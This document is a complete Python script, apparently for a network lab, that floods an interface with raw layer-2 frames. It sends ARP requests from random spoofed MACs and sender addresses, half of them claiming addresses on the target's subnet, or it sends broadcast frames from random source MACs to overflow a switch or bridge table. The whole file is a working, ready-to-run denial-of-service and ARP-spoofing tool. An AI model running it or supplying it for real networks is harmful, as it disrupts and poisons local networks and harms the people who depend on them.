#!/usr/bin/env python3
"""Layer-2 floods for the lab, written on IFACE with a packet socket for
SECONDS, as fast as the socket takes them. Prints how many were sent.

    l2_flood.py IFACE arp TARGET_IP SECONDS
        ARP requests for TARGET_IP from random sender MACs and addresses:
        half on TARGET_IP's /24 (.10 to .254: the lab's hosts are below,
        and an on-link sender may always claim an address, ARP has no
        defense against that), half anywhere (an ARP flood).
    l2_flood.py IFACE mac SECONDS
        Broadcast frames from random source MACs (a MAC flood on a bridge).
"""
import os
import random
import socket
import struct
import sys
import time

iface, mode = sys.argv[1], sys.argv[2]
if mode == "arp":
    target, seconds = socket.inet_aton(sys.argv[3]), float(sys.argv[4])
else:
    seconds = float(sys.argv[3])


def mac():
    return bytes([0x02]) + os.urandom(5)  # locally administered unicast


def arp_request(i):
    src = mac()
    if i % 2:
        sender = target[:3] + bytes([random.randint(10, 254)])
    else:
        sender = bytes([random.randint(1, 223), random.randint(0, 255), random.randint(0, 255), random.randint(1, 254)])
    arp = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 1, src, sender, b"\0" * 6, target)
    return b"\xff" * 6 + src + struct.pack("!H", 0x0806) + arp


def broadcast(_):
    return b"\xff" * 6 + mac() + struct.pack("!H", 0x88B5) + b"\xab" * 46


make = arp_request if mode == "arp" else broadcast
pool = [make(i) for i in range(65536)]
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((iface, 0))
sent, start = 0, time.time()
while time.time() - start < seconds:
    for _ in range(256):
        try:
            s.send(pool[sent % len(pool)])
            sent += 1
        except OSError:
            time.sleep(0.001)
print(sent)
